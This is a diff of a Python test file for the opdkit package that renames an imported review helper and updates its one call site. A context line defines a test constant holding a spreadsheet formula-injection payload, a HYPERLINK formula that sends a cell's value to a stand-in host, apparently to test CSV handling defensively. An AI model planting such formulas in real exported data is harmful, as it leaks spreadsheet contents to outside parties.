@@ -14,7 +14,7 @@ from opdkit.config.judge import JudgeConfig
 from opdkit.errors import OpdkitError
 from opdkit.judge import stage as judge
 from opdkit.store import reviews
-from opdkit.store.reviews import Review, in_force
+from opdkit.store.reviews import Review, reviews_in_force
 
 EVIL = '=HYPERLINK("http://example.org?x="&A1)'
 TURNS = ["a:1", "a:3", "b:1", "b:3"]
@@ -47,7 +47,7 @@ def read(run, rows, tmp_path, *, columns=COLUMNS, delimiter=",", encoding="utf-8
 
 
 def decided(run) -> dict:
-    return {name: review.decided for name, review in in_force(run).items()}
+    return {name: review.decided for name, review in reviews_in_force(run).items()}
 
 
 def fill(run, **cells) -> list[dict[str, str]]:
